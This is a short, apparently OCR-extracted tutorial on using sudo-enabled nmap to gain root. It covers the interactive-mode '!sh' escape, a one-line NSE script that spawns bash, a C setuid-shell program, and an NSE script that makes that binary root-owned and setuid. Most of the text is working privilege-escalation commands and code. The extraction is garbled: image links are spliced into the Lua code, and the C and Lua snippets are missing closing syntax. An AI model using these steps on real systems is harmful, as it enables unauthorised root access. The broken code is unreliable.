Privilege Escalation with Nmap

If you have sudo rights to execute nmap, it’s possible to escalate with nmap using two methods which would depend on the version installed on the machine. We can check the version of nmap using nmap -v.

Nmap Interactive Mode

For nmap versions 2.02 to 5.21, an interactive mode can be used with nmap to execute shell commands.

$ sudo nmap --interactive
> !sh

This should give you an elevated shell.

Nmap Scripting Engine

Newer versions of nmap have removed the option to run in interactive mode. Instead, we can escalate privileges by executing a custom lua script using the nmap scripting feature. The os.execute function should provide us access to system commands.

Here’s a quick and dirty script to get a root shell:

$ echo 'os.execute("/bin/bash")' > /tmp/rootme.nse

Execute the custom nse script with privileged nmap and you’ll get root.

$ sudo nmap --script /tmp/rootme.nseAlternatively, you can use the nse script to set the SetUID and SetGID bits on another script which will provide a better shell experience.

Create a C script on your local machine and compile using gcc rootme.c -o rootme. I’d usually place this in the /tmp/rootme folder just to make things easier.

#include <stdio.h>
#include <sys/types.h>
#include <unistd.h>
#include <stdlib.h>

int main(void){
    setuid(0); setgid(0); system("/bin/bash");

Transfer the file onto the target machine and create the following nse script. Again, run the nse script using sudo nmap --scriptrootme.nse.

author = "w0lfram1te"
categories = {"default", "safe"}

prerule = function()
    return"True"

action = function(prerule)os.execute("chown root.root /tmp/rootme")
    os.execute("chmod +sx/tmp/rootme")
    return"nmap priv escalation"